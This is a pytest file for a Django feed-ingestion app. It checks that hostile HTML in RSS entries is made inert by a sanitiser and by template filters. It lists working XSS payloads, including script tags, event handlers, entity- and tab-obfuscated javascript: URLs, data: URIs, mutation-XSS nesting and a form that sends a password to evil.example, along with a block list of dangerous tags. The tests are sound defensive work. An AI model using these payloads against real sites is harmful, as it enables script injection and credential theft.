"""Hostile HTML from feeds is inert wherever it is shown."""
import re

import pytest
from django.template import Context, Template

from sources.ingest import ingest_feed_document
from sources.models import Feed
from sources.sanitize import safe_link, sanitize_html
from tests.sources.feeds import item, rss

HOSTILE_HTML = [
    '<script>alert(1)</script>',
    '<img src="x" onerror="alert(1)">',
    '<p onclick="alert(1)" onmouseover="alert(2)">text</p>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entity-encoded</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">hex entities</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab inside</a>',
    '<a href=" JaVaScRiPt:alert(1)">case</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">m</maction></math>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">go</button></form>',
    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">s</a></svg>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<div style="background:url(javascript:alert(1))">styled</div>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<!--<script>alert(1)</script>-->',
    '<base href="javascript:alert(1)//">',
]
DANGEROUS = ["<script", "onerror", "onclick", "onmouseover", "<form", "<input", "<math", "<svg",
             "<iframe", "<object", "<embed", "<meta", "<base", "style=", "data:", "vbscript", "<style", "formaction"]


def assert_inert(html):
    lowered = html.lower()
    for needle in DANGEROUS:
        assert needle not in lowered, (needle, html)
    # Every URL left is an absolute http(s) one (a "javascript:" inside an https path is harmless).
    for name, value in re.findall(r'([\w:-]+)\s*=\s*"([^"]*)"', html):
        assert name in {"href", "rel", "cite", "title", "lang", "dir"} or name.startswith(("align", "col", "row")), html
        if name in {"href", "cite"}:
            assert value == "" or value.startswith(("http://", "https://")), html
    assert "javascript:" not in re.sub(r'href="https?://[^"]*"', "", lowered), html


@pytest.mark.parametrize("hostile", HOSTILE_HTML)
def test_hostile_html_is_inert_after_sanitising(hostile):
    assert_inert(sanitize_html(hostile))


def test_ordinary_markup_and_http_links_survive():
    html = sanitize_html('<p>Read <a href="https://www.cbp.gov/newsroom">the release</a> <em>now</em>.</p>')
    assert html == ('<p>Read <a href="https://www.cbp.gov/newsroom" rel="nofollow noopener noreferrer">'
                    'the release</a> <em>now</em>.</p>')


@pytest.mark.parametrize("url", ["javascript:alert(1)", " javascript:alert(1)", "data:text/html,x", "mailto:a@b.example",
                                 "file:///etc/passwd", "//evil.example/x", "/relative", "https://x.example/\"onmouseover=1"])
def test_a_link_that_is_not_absolute_http_is_never_used(url):
    assert safe_link(url) == ""


def test_hostile_entries_are_stored_raw_and_shown_inert(db):
    feed = Feed.objects.create(url="https://hostile.example/feed.xml")
    body = rss(*(item(n, description=html, content=html, title=f"<b onclick=x()>t{n}</b>",
                      link="javascript:alert(1)" if n == 0 else None)
                 for n, html in enumerate(HOSTILE_HTML)))
    result = ingest_feed_document(feed, body)
    assert len(result.outcomes) == len(HOSTILE_HTML)
    template = Template("{% load sources_html %}<a href=\"{{ r.url|safe_link }}\">{{ r.title|plaintext }}</a>"
                        "{{ r.summary|sanitize:r.url }}{{ r.content|sanitize:'https://hostile.example/feed.xml' }}")
    reports = list(feed.reports.all())
    assert any("<script>" in r.summary for r in reports)  # stored as the feed sent it
    for report in reports:
        assert_inert(template.render(Context({"r": report})))
    first = feed.reports.get(guid="item-0")
    assert first.url == ""  # the javascript: link is never stored as the report's link
    assert result.outcomes[0].link == ""


def test_relative_links_are_made_absolute_against_the_base_or_dropped():
    html = '<a href="/story/1">one</a> <a href="two.html">two</a> <a href="https://x.example/3">three</a>'
    assert sanitize_html(html, base_url="https://news.example.org/section/feed.xml") == (
        '<a href="https://news.example.org/story/1" rel="nofollow noopener noreferrer">one</a> '
        '<a href="https://news.example.org/section/two.html" rel="nofollow noopener noreferrer">two</a> '
        '<a href="https://x.example/3" rel="nofollow noopener noreferrer">three</a>')
    assert sanitize_html(html) == ('<a rel="nofollow noopener noreferrer">one</a> <a rel="nofollow noopener noreferrer">'
                                   'two</a> <a href="https://x.example/3" rel="nofollow noopener noreferrer">three</a>')
